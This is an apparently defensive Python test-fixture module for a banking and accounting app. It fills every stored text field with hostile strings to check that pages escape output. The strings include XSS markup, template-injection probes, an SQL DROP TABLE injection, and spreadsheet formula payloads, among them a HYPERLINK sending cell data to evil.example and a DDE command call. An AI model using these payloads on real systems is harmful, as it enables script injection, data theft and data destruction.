"""Texts that mean harm, and an office that carries them wherever a bank, a PC or a person can."""

from datetime import timedelta

from hikae.cloud.connections.models import Challenge, Connection, Fetch
from hikae.cloud.connections.problem_record import keep_problem
from hikae.cloud.devices.models import Device
from hikae.cloud.people.models import Organisation, User
from hikae.cloud.statements.models import Account, Export, ImportedFile, Transaction
from hikae.model.fetch import FetchState
from hikae.model.problems import Problem, ProblemCode
from tests.office import ORDINARY, Office, daily

RUN = "document.title='run'"
"""What a script does that should not have run."""

HOSTILE = {
    "markup": (
        f"<script>{RUN}</script><img src=x onerror={RUN}><svg/onload={RUN}>"
        f"</td></textarea></title><a href=javascript:{RUN}>x</a>"
    ),
    "attribute": f"\" onmouseover={RUN} style='color:red' autofocus onfocus={RUN}><base href=//e>",
    "template": "{{ 7|add:7 }}{% debug %}${7*7}%(name)s%s{0}&lt;b&gt;&#x27;]]>--><!--",
    "query": "'; DROP TABLE statements_transaction; -- \\x27 OR 1=1 /* \\0 */",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")+cmd|\'/c calc\'!A1',
    "plus": "+81-3-0000-0000",
    "minus": "-1+1",
    "at": "@SUM(1+1)*cmd",
    "wide formula": "＝1＋1",
    "right to left": "مرحبا بالعالم שלום עולם ١٢٣٬٤٥٦ 円",
    "emoji": "👨👩👧👦🏦🇯🇵é",
    "halfwidth": "ｶ)ﾔﾏﾃｼﾖｳｶｲ ﾟﾞ ㍿ ﷽",
    "long": "W" * 200,
}
"""By what they are; none is longer than the shortest place for a text."""


def furnish_to_be_told(office: Office) -> None:
    """Let everything happen in an office, so that each of its pages has something to show."""
    office.enrol()
    connection = office.register("0138")
    office.enable(connection)
    office.deliver(connection, daily(ORDINARY, office.now, days=3))
    problem = Problem(ProblemCode.MAINTENANCE, {"found": "-"}, bank_words="-")
    office.fetch(connection, FetchState.FAILED, problem=problem, minutes_ago=5)
    office.ask(connection, office.fetch(connection, FetchState.WAITING), "?", choices=("1", "2"))
    office.close_and_correct(connection)
    office.bring("meisai.txt")
    for form in ("csv", "excel"):
        office.export(form)
    office.look("freee-deals")


def say_everywhere(office: Office, text: str) -> None:
    """Put a text into every place for one, past all borders: whoever shows it must take care."""
    Device.objects.update(name=text, system=text, agent=text)
    Organisation.objects.update(name=text)
    User.objects.update(name=text)
    with office.at_work():
        Account.objects.update(bank_name=text, branch_name=text, holder=text)
        Transaction.objects.update(
            description=text, counterparty=text, bank_reference=text, edi=text
        )
        Challenge.objects.update(prompt=text, code=text, again=text, choices=[text, "2"])
        ImportedFile.objects.update(name=text)
        Export.objects.update(name=text)
        problem = keep_problem(
            Problem(ProblemCode.MAINTENANCE, {"found": text, "device": text}, bank_words=text)
        )
        Fetch.objects.update(step=text)
        Fetch.objects.filter(state=FetchState.FAILED).update(problem=problem)
        certificate = {"thumbprint": "ab" * 20, "user_id": text, "issuer": text}
        certificate["not_after"] = (office.now + timedelta(days=20)).isoformat()
        Connection.objects.update(user_id=text, certificate=certificate)
